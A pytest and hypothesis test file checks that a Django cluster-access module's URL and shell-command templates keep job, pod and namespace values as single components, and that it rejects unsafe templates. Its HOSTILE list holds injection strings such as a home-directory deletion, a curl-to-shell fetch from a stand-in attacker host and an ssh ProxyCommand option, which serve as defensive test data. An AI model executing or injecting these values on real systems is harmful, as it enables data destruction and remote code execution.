"""Access-link templates (`clusters.access`): what a template may hold, and that whatever a
job, task, pod or log directory is called, it stays one URL component or one shell word."""

from __future__ import annotations

import shlex
from urllib.parse import unquote, urlsplit

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from clusters.access import (
    MAX_TEMPLATE,
    AccessValues,
    render_command,
    render_url,
    validate_command_template,
    validate_url_template,
)

HOSTILE = [
    "a;b", "$(rm -rf ~)", "`id`", "x' || curl evil.example | sh #", 'x" && id "',
    "--kubeconfig=/tmp/evil", "-oProxyCommand=sh", "x\\", "../../admin", "a b\tc",
    "?admin=1#frag", "@evil.example.com", "//evil.example.com/x", "%2F..", "é漢字",
    "line\nbreak", "",
]


def values(hostile: str) -> AccessValues:
    return AccessValues(namespace=hostile, job=hostile, task=hostile, pod=hostile,
                        log_dir=hostile)


URL = "https://tb.example.com/{namespace}/{job}/{task}?pod={pod}&logdir={log_dir}"
COMMAND = "ssh -t jump.example.com kubectl -n {namespace} exec -it {pod} -c {task} -- ls {log_dir}"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_value_stays_one_url_component(hostile: str) -> None:
    url = render_url(URL, values(hostile))
    assert url is not None
    parts = urlsplit(url)
    assert (parts.scheme, parts.netloc, parts.fragment) == ("https", "tb.example.com", "")
    segments = parts.path.split("/")[1:]
    assert [unquote(s) for s in segments] == [hostile] * 3
    assert [unquote(pair.split("=", 1)[1]) for pair in parts.query.split("&")] == [hostile] * 2


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_value_stays_one_shell_word(hostile: str) -> None:
    command = render_command(COMMAND, values(hostile))
    assert command is not None
    assert shlex.split(command) == [
        "ssh", "-t", "jump.example.com", "kubectl", "-n", hostile, "exec", "-it", hostile,
        "-c", hostile, "--", "ls", hostile,
    ]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_any_value_is_one_word_and_one_component(text: str) -> None:
    command = render_command("run {pod} --in {namespace}", values(text))
    assert command is not None and shlex.split(command) == ["run", text, "--in", text]
    url = render_url("http://ray.example.com:8265/{pod}", values(text))
    assert url is not None and urlsplit(url).netloc == "ray.example.com:8265"
    assert unquote(urlsplit(url).path[1:]) == text


def test_a_value_in_the_host_that_is_no_host_name_drops_the_link() -> None:
    template = "https://{job}.tb.example.com/"
    assert render_url(template, values("ppo-run")) == "https://ppo-run.tb.example.com/"
    assert render_url(template, values("evil.example.com/x?")) is None


@pytest.mark.parametrize("template", [
    "javascript:alert(1)//{pod}", "ftp://files.example.com/{pod}", "tb.example.com/{pod}",
    "https://user@tb.example.com/{pod}", "https://tb.example.com:99999/",
    "https:///{pod}", "https://tb.example.com/{pod.__class__}", "https://x/{pod[0]}",
    "https://x/{pod!r}", "https://x/{pod:>20}", "https://x/{secret}", "https://x/{}",
    "https://x/{pod", "https://x/}", "https://x/\n{pod}", "https://x/" + "a" * MAX_TEMPLATE,
])
def test_bad_url_templates_are_refused(template: str) -> None:
    with pytest.raises(ValidationError):
        validate_url_template(template)
    assert render_url(template, values("p")) is None


@pytest.mark.parametrize("template", [
    "https://tb.example.com/{namespace}/{job}", "http://10.0.0.7:6006/#/?run={log_dir}",
    "https://{job}-ray.apps.example.com/", "https://[fd00::1]:8265/{pod}",
    "https://x.example.com/{{literal}}/{pod}",
])
def test_good_url_templates_are_kept(template: str) -> None:
    validate_url_template(template)


@pytest.mark.parametrize("template", [
    "ssh jump '{pod}'", 'ssh jump "kubectl exec {pod}"', "ssh jump \\{pod}", "echo ${pod}",
    "echo $'{pod}'", "ssh jump 'unclosed", 'ssh "a\\" {pod}"', "echo \\", "   ",
    "ssh {host}", "ssh {pod!s}", "ssh {pod", "ssh\t{pod}", "x" * (MAX_TEMPLATE + 1),
])
def test_bad_command_templates_are_refused(template: str) -> None:
    with pytest.raises(ValidationError):
        validate_command_template(template)
    assert render_command(template, values("p")) is None


@pytest.mark.parametrize("template", [
    "kubectl --context prod -n {namespace} exec -it {pod} -c main -- bash",
    "ssh -t {job}@jump.example.com", "ssh jump 'kubectl get pods' {pod}", "echo 'a'{pod}",
    'echo "$HOME" {pod} \\; {{x}}',
])
def test_good_command_templates_are_kept(template: str) -> None:
    validate_command_template(template)
